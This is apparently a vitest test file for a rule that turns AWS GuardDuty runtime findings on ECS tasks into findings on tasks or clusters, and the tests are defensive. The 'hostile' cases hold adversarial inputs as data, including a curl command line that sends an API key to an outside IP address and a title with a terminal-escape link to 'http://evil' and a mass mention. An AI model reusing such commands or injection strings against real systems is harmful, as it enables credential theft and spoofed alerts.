/**
 * runtime-threat-in-task: GuardDuty Runtime Monitoring findings. The event
 * (events/guardduty-runtime-new-binary-executed-service-task.json) is constructed in the shape of the
 * GuardDuty API Reference's `Finding` (resource.ecsClusterDetails.taskDetails: arn, definitionArn, group,
 * containers[].image, tags) delivered as EventBridge's "GuardDuty Finding" (GuardDuty User Guide,
 * "Processing GuardDuty findings with Amazon EventBridge"); type and title of Execution:Runtime/NewBinaryExecuted.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { normalize } from '../../../shared/events/normalize';
import { parseEvent } from '../../../shared/events/parse';
import { InvalidEventError } from '../../../shared/events/errors';
import { accountsOutsideScope } from '../../../shared/policy/scope';
import { resolvedBy } from '../../../shared/lifecycle/lifecycle';
import { DEFAULT_POLICY } from '../../../shared/policy/load';
import { severityOfGuardDuty } from '../../../shared/rules/runtime-threat-in-task';
import { MAX_FINDING_BYTES } from '../../../shared/model/bounded-finding';
import { evaluateOne, only, service, stubEnricher, withRule } from './helpers';

type Json = Record<string, any>;
const SAMPLE: Json = JSON.parse(
  readFileSync('events/guardduty-runtime-new-binary-executed-service-task.json', 'utf8'),
);
const TASK_ARN = 'arn:aws:ecs:us-west-2:111122223333:task/prod/0f9e8d7c6b5a49382716a5b4c3d2e1f0';
const SERVICE_ARN = 'arn:aws:ecs:us-west-2:111122223333:service/prod/checkout-api';

/** The sample with `change` applied to a deep copy (the corpus file is never edited). */
function finding(change: (e: Json) => void = () => {}): Json {
  const e = structuredClone(SAMPLE);
  change(e);
  return e;
}
const taskDetails = (e: Json): Json => e.detail.resource.ecsClusterDetails.taskDetails;

describe('runtime-threat-in-task', () => {
  it("opens one finding on the task with GuardDuty's type and severity, the service, revision, image and team", async () => {
    const r = await evaluateOne(SAMPLE);
    expect(r.findings.map((f) => f.ruleId)).toEqual(['runtime-threat-in-task']);
    const f = only(r.findings, 'runtime-threat-in-task');
    expect(f.resource).toEqual({ type: 'AWS::ECS::Task', arn: TASK_ARN });
    expect(f.severity).toBe('high'); // GuardDuty 8 -> high
    expect(f.tags).toEqual({ 'guardrail:team': 'payments' });
    expect(f.event.eventName).toBe('Execution:Runtime/NewBinaryExecuted');
    expect(f.evidence.map((e) => e.message)).toEqual([
      'GuardDuty Execution:Runtime/NewBinaryExecuted (severity 8): A newly created or recently modified binary file has been executed in a container.',
      'task of service checkout-api in cluster prod',
      'task definition checkout-api:42',
      expect.stringMatching(
        /^container app runs 111122223333\.dkr\.ecr\.us-west-2\.amazonaws\.com\/checkout-api@sha256:/,
      ),
    ]);
  });

  it("maps GuardDuty's levels: 9.0-10 critical, 7.0-8.9 high, 4.0-6.9 medium, 1.0-3.9 low", async () => {
    expect([10, 9, 8.9, 7, 6.9, 4, 3.9, 1].map(severityOfGuardDuty)).toEqual([
      'critical',
      'critical',
      'high',
      'high',
      'medium',
      'medium',
      'low',
      'low',
    ]);
    const crit = await evaluateOne(finding((e) => (e.detail.severity = 9.5)));
    expect(only(crit.findings, 'runtime-threat-in-task').severity).toBe('critical');
  });

  it("enrichment: the team tag of the task's service when the task has none of its own (task tags win)", async () => {
    const untagged = finding((e) => delete taskDetails(e).tags);
    const enricher = stubEnricher({
      services: {
        [SERVICE_ARN]: service({ arn: SERVICE_ARN, tags: { 'guardrail:team': 'checkout', env: 'prod' } }),
      },
    });
    const f = only((await evaluateOne(untagged, enricher)).findings, 'runtime-threat-in-task');
    expect(enricher.calls).toContain(`describeService ${SERVICE_ARN}`);
    expect(f.tags).toEqual({ 'guardrail:team': 'checkout', env: 'prod' });
    const own = only((await evaluateOne(SAMPLE, enricher)).findings, 'runtime-threat-in-task');
    expect(own.tags?.['guardrail:team']).toBe('payments');
  });

  it('hostile: a finding about a non-ECS resource is ignored (no resource, no finding, no error)', async () => {
    const ec2 = finding((e) => {
      e.detail.type = 'Backdoor:EC2/C&CActivity.B!DNS';
      e.detail.resource = {
        resourceType: 'Instance',
        instanceDetails: { instanceId: 'i-0123456789abcdef0' },
      };
    });
    expect(normalize(parseEvent(ec2)).resources).toEqual([]);
    expect((await evaluateOne(ec2)).findings).toEqual([]);
  });

  it('hostile: missing task details -> a finding on the cluster (no remediation); no cluster either -> not checked, said so', async () => {
    const clusterOnly = finding((e) => delete e.detail.resource.ecsClusterDetails.taskDetails);
    const f = only((await evaluateOne(clusterOnly)).findings, 'runtime-threat-in-task');
    expect(f.resource).toEqual({
      type: 'AWS::ECS::Cluster',
      arn: 'arn:aws:ecs:us-west-2:111122223333:cluster/prod',
      name: 'prod',
    });
    expect(f.evidence[0]!.message).toMatch(/names no task of cluster prod/);
    expect(f.action).toBeUndefined();
    const nothing = finding((e) => (e.detail.resource.ecsClusterDetails = { taskDetails: null }));
    const r = await evaluateOne(nothing);
    expect(r.findings).toEqual([]);
    expect(r.incomplete?.reason).toMatch(/neither a task nor a cluster/);
  });

  it('hostile: a replayed finding (same event twice, or a GuardDuty update with a higher count) is the same finding id', async () => {
    const first = only((await evaluateOne(SAMPLE)).findings, 'runtime-threat-in-task');
    const again = only((await evaluateOne(SAMPLE)).findings, 'runtime-threat-in-task');
    const update = only(
      (await evaluateOne(finding((e) => ((e.id = 'другой'), (e.detail.service.count = 7))))).findings,
      'runtime-threat-in-task',
    );
    expect(new Set([first.findingId, again.findingId, update.findingId]).size).toBe(1);
    expect(update.evidence[0]!.message).toMatch(/seen 7 times/);
  });

  it('hostile: secrets in the runtime details (command lines) never reach the finding; a huge title is bounded', async () => {
    const secret = 'AKIAIOSFODNN7EXAMPLE';
    const leaky = finding((e) => {
      e.detail.service.runtimeDetails.process.commandLine = `curl -H "x-api-key: ${secret}" http://203.0.113.9`;
      e.detail.description = `ran with ${secret}`;
      e.detail.title = `\u001b]8;;http://evil\u0007<!channel> ${'A'.repeat(200_000)}`;
    });
    const f = only((await evaluateOne(leaky)).findings, 'runtime-threat-in-task');
    const text = JSON.stringify(f);
    expect(text).not.toContain(secret);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MAX_FINDING_BYTES);
  });

  it('hostile: severity out of range or of the wrong type is a bad event naming detail.severity', () => {
    for (const severity of [0, -3, 10.5, 1e308, '8', null]) {
      const e = finding((x) => (x.detail.severity = severity));
      expect(() => parseEvent(e), String(severity)).toThrow(InvalidEventError);
      expect(() => parseEvent(e)).toThrow(/detail\.severity/);
    }
  });

  it('hostile: a task of an account outside the scope is dropped; a task ARN of another account is not believed', async () => {
    const member = finding((e) => {
      e.detail.accountId = '444455556666';
      e.detail.arn = e.detail.arn.replace('111122223333', '444455556666');
      e.detail.resource.ecsClusterDetails.arn = 'arn:aws:ecs:us-west-2:444455556666:cluster/prod';
      taskDetails(e).arn = TASK_ARN.replace('111122223333', '444455556666');
    });
    const policy = { scope: { allowAccounts: ['111122223333'] } };
    expect(accountsOutsideScope(parseEvent(member), policy)).toEqual(['444455556666']);
    expect(accountsOutsideScope(parseEvent(SAMPLE), policy)).toEqual([]);
    // The finding's account is the member's, not the (administrator) envelope's.
    expect(normalize(parseEvent(member)).account).toBe('444455556666');
    const lying = finding((e) => (taskDetails(e).arn = TASK_ARN.replace('111122223333', '999999999999')));
    const r = await evaluateOne(lying);
    expect(r.findings).toEqual([]);
    expect(r.incomplete?.reason).toMatch(/task outside its own account and region/);
  });

  it('hostile: "GuardDuty Finding" from another source (a custom event) is not GuardDuty: ignored', async () => {
    const forged = finding((e) => (e.source = 'custom.attacker'));
    expect(parseEvent(forged).kind).toBe('other');
    expect((await evaluateOne(forged)).findings).toEqual([]);
  });

  it('resolution: an archived update resolves it; the task stopping resolves it; a RUNNING task event does not', async () => {
    const open = only((await evaluateOne(SAMPLE)).findings, 'runtime-threat-in-task');
    const archived = normalize(parseEvent(finding((e) => (e.detail.service.archived = true))));
    expect(
      withRule(
        (await evaluateOne(finding((e) => (e.detail.service.archived = true)))).findings,
        'runtime-threat-in-task',
      ),
    ).toEqual([]);
    expect(resolvedBy(archived, [], DEFAULT_POLICY)).toContain(open.findingId);
    const task = (lastStatus: string) => ({
      resources: [
        {
          kind: 'Task' as const,
          arn: TASK_ARN,
          account: '111122223333',
          region: 'us-west-2',
          lastStatus,
          eniIds: [],
        },
      ],
    });
    expect(resolvedBy(task('STOPPED'), [], DEFAULT_POLICY)).toContain(open.findingId);
    expect(resolvedBy(task('RUNNING'), [], DEFAULT_POLICY)).not.toContain(open.findingId);
  });
});
